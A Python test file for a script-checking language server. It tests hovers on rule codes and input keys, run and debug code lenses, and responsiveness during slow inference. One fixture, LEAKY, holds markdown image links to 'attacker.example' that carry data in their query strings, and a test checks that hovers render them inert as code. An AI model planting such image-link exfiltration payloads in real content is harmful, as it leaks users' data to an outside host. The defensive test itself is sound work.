"""Hover on rule codes and input keys; the run code lens and the last outcome it shows."""

from __future__ import annotations

import asyncio
from typing import Any

from lsprotocol import types

from tests.lsp.conftest import Session
from tests.lsp.test_runs import HELLO, HELLO_ENTRY


async def hover(lsp: Session, uri: str, line: int, character: int) -> str | None:
    result = await lsp.client.text_document_hover_async(
        types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=uri),
            position=types.Position(line=line, character=character),
        )
    )
    if result is None:
        return None
    assert isinstance(result.contents, types.MarkupContent)
    return result.contents.value


SHORT = 'import json, sys\nx = {"a": 1}\n'  # a script a hover on line 1 finds no key in


async def answered_while(lsp: Session, short_uri: str, pending: asyncio.Future[Any]) -> None:
    """A hover on the short script (`SHORT`) is answered while `pending`, asked before it,
    is still being worked out: the server's event loop was not held by it."""
    await asyncio.sleep(0)
    assert await hover(lsp, short_uri, 1, 6) is None
    assert not pending.done()


async def lenses(lsp: Session, uri: str) -> list[types.CodeLens]:
    found = await lsp.client.text_document_code_lens_async(
        types.CodeLensParams(text_document=types.TextDocumentIdentifier(uri=uri))
    )
    return list(found or [])


async def run_lens(lsp: Session, uri: str) -> types.CodeLens:
    """The "Run with inputs" lens, checked to have "Debug with inputs" after it, on the first
    line (where the cases' lenses go too: see code_lens.py)."""
    run, debug, *_cases = await lenses(lsp, uri)
    assert debug.range.start.line == 0
    assert debug.command is not None and debug.command.title == "Debug with inputs"
    assert debug.command.command == "scriptcontract.debug"
    assert list(debug.command.arguments or []) == [{"uri": uri}]
    return run


async def test_hover_on_a_code_in_a_suppression_comment_explains_the_rule(
    lsp: Session, name: str
) -> None:
    line = "value = 1  # scriptcontract: ignore[SCR001, SCR101]"
    # The first line carries whole-file findings (SCR101, SCR104); the second has none
    # outside its comment.
    uri = lsp.open(name, f"import json\n{line}\n")
    await lsp.diagnostics(uri)
    text = await hover(lsp, uri, 1, line.index("SCR101") + 2)
    assert text is not None and "SCR101" in text and "/SCR101.md" in text
    assert "SCR901" not in text  # the code named, not the finding on the comment
    text = await hover(lsp, uri, 1, line.index("SCR001") + 1)
    assert text is not None and "SCR001" in text
    assert await hover(lsp, uri, 1, 2) is None


async def test_hover_on_an_input_key_says_what_the_script_expects(lsp: Session, name: str) -> None:
    uri = lsp.open(
        name,
        """
        import json, sys

        inputs = json.load(sys.stdin)
        greeting = inputs.get("greeting", "Hello")
        name = inputs["name"]
        """,
    )
    optional = await hover(lsp, uri, 3, 25)
    assert optional is not None
    assert '"greeting"' in optional and "optional" in optional and '"Hello"' in optional
    required = await hover(lsp, uri, 4, 17)
    assert required is not None and '"name"' in required and "required" in required


async def test_hover_on_an_input_key_follows_every_edit(lsp: Session, name: str) -> None:
    # What a hover works out is kept for the text it came from: an edit drops it.
    uri = lsp.open(
        name, 'import json, sys\n\ninputs = json.load(sys.stdin)\nname = inputs["name"]\n'
    )
    first = await hover(lsp, uri, 3, 16)
    assert first is not None and "Read on line 4." in first
    lsp.edit(uri, (0, 0), (0, 0), "# moved down\n")
    moved = await hover(lsp, uri, 4, 16)
    assert moved is not None and "Read on line 5." in moved
    above = await hover(lsp, uri, 3, 16)  # the line above holds no key now (findings may)
    assert above is None or "Input" not in above
    lsp.edit(uri, (4, 14), (4, 20), '"title"')
    renamed = await hover(lsp, uri, 4, 16)
    assert renamed is not None and '"title"' in renamed and '"name"' not in renamed


async def test_the_run_lens_sits_on_the_entry_point_and_shows_the_last_outcome(
    lsp: Session, name: str
) -> None:
    uri = lsp.open(name, HELLO)
    lens = await run_lens(lsp, uri)
    assert lens.range.start.line == HELLO_ENTRY
    assert lens.command is not None
    assert lens.command.title == "▶ Run with inputs"
    assert lens.command.command == "scriptcontract.run"
    assert list(lens.command.arguments or []) == [{"uri": uri}]
    refreshes = lsp.client.code_lens_refreshes
    await lsp.command("scriptcontract.run", {"uri": uri, "inputs": {"name": "Cy"}})
    lens = await run_lens(lsp, uri)
    assert lens.command is not None
    assert lens.command.title.startswith("▶ Run with inputs · ✓ ")
    assert lens.command.title.endswith(" ms")
    if lsp.profile in ("vscode", "vscode-modern"):  # they declare refreshSupport
        assert lsp.client.code_lens_refreshes > refreshes


async def test_the_lens_shows_a_failure_with_its_exception(lsp: Session, name: str) -> None:
    uri = lsp.open(
        name,
        """
        import json, sys
        inputs = json.load(sys.stdin)
        print(json.dumps({"n": inputs["name"]}))
        """,
    )
    await lsp.command("scriptcontract.run", {"uri": uri, "inputs": {}})
    lens = await run_lens(lsp, uri)
    assert lens.command is not None
    assert lens.command.title == "▶ Run with inputs · ✗ KeyError: 'name'"


async def test_no_lens_for_files_that_are_not_scripts(lsp: Session) -> None:
    uri = lsp.open("lib/no_lens_here.py", HELLO)
    assert await lenses(lsp, uri) == []


def _outside_code_spans(markdown: str) -> str:
    """`markdown` without its code spans, as CommonMark reads them: a run of N backticks
    opens one, the next run of exactly N closes it, and a blank line ends the paragraph
    (an unclosed run is then literal text)."""
    shown: list[str] = []
    for paragraph in markdown.split("\n\n"):
        at = 0
        while True:
            start = paragraph.find("`", at)
            if start < 0:
                shown.append(paragraph[at:])
                break
            end = start
            while end < len(paragraph) and paragraph[end] == "`":
                end += 1
            fence = paragraph[start:end]
            close = end
            while True:
                close = paragraph.find(fence, close)
                if close < 0 or paragraph[close + len(fence) : close + len(fence) + 1] != "`":
                    break
                close += len(fence) + 1
                while close < len(paragraph) and paragraph[close] == "`":
                    close += 1
            if close < 0 or (close > 0 and paragraph[close - 1] == "`"):
                shown.append(paragraph[at:end])
                at = end
                continue
            shown.append(paragraph[at:start])
            at = close + len(fence)
    return "\n\n".join(shown)


# A run may write a script whose input key, or a default's source, carries markdown: an image
# whose address holds what the run read (it has no network) is fetched by the editor the
# moment the user hovers over the key.
LEAKY = """
import json, sys

inputs = json.load(sys.stdin)
first = inputs["a` ![x](https://attacker.example/?d=one) `b"]
second = inputs.get("c", ("``` ![y](https://attacker.example/?d=two)"

"![z](https://attacker.example/?d=three)"))
"""


async def test_hover_shows_markdown_from_the_script_as_code(lsp: Session, name: str) -> None:
    uri = lsp.open(name, LEAKY)
    first = await hover(lsp, uri, 3, 17)
    second = await hover(lsp, uri, 4, 21)
    assert first is not None and second is not None
    # The positive control: the hovers carry the script's markdown, as text.
    assert "d=one" in first and "d=two" in second and "d=three" in second
    for text in (first, second):
        outside = _outside_code_spans(text)
        assert "](" not in outside and "attacker.example" not in outside, text


def long_script(functions: int, key: str) -> str:
    """A script of `functions` steps (5 lines each) whose first step reads the input `key`
    on line 3: what it reads takes its inference a long while to work out."""
    steps = "".join(
        f'def step_{i}(inputs):\n    value = inputs.get("{key if i == 0 else f"k{i}"}", "")\n'
        "    return value.strip()\n\n\n"
        for i in range(functions)
    )
    return "import json, sys\n\n" + steps + "inputs = json.load(sys.stdin)\nstep_0(inputs)\n"


LONG = 2000  # steps: 10,000 lines, seconds of inference on a loaded machine
KEY_LINE, KEY_COLUMN = 3, 26


async def test_other_requests_are_answered_while_a_long_scripts_inputs_are_inferred(
    lsp: Session, name: str
) -> None:
    uri = lsp.open(name, long_script(LONG, "field_0"))
    other = lsp.open(name.replace(".py", "_other.py"), 'import json, sys\nx = {"a": 1}\n')
    # Sent in this order: the long hover first, worked out off the event loop.
    long_hover = asyncio.ensure_future(hover(lsp, uri, KEY_LINE, KEY_COLUMN))
    await asyncio.sleep(0)
    answered_first = await hover(lsp, other, 1, 6)
    assert answered_first is None  # the short script's answer (no key there)...
    assert not long_hover.done()  # ...came while the long one was being worked out
    answer = await long_hover
    assert answer is not None and '"field_0"' in answer and "optional" in answer


async def test_a_hover_worked_out_for_a_text_since_edited_is_not_shown(
    lsp: Session, name: str
) -> None:
    uri = lsp.open(name, long_script(LONG, "field_0"))
    stale = asyncio.ensure_future(hover(lsp, uri, KEY_LINE, KEY_COLUMN))
    await asyncio.sleep(0)
    # The key is renamed while its hover is worked out: the answer about "field_0" would
    # describe a text the user no longer has.
    lsp.edit(uri, (KEY_LINE, 23), (KEY_LINE, 32), '"renamed"')
    answer = await stale
    assert answer is None or '"field_0"' not in answer, answer
    renamed = await hover(lsp, uri, KEY_LINE, KEY_COLUMN)
    assert renamed is not None and '"renamed"' in renamed
